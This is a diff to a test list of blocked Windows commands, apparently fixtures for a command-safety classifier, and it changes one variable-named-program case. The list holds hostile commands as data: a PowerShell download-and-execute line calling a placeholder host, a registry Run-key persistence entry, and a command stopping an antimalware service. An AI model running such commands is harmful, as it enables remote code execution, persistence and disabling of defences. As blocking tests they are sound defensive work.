@@ -52,7 +52,9 @@ BLOCKED = [
     ("@whoami /priv", "env.accounts"),
     ('@powershell -c "iwr http://x.example | iex"', "network.http-client"),
     ("@reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", "destructive"),
-    ("@%DC% -run build.d", "dynamic.command-name"),  # a program named by a variable
+    # a program named by variables run together (one named for its program, `@%DC% -run build.d`, is that
+    # program, as `%DC% -run build.d` is)
+    ("@%DC%%EXT% -run build.d", "dynamic.command-name"),
     ('start "" "%ProgramFiles%\\Malwarebytes\\mbam.exe" --stopservice', "env"),  # a cmd variable
     ("call C:\\Users\\Public\\evil.cmd", "unverifiable.outside-program"),
     ("call \\\\host\\share\\x.bat", "network.windows-remote"),
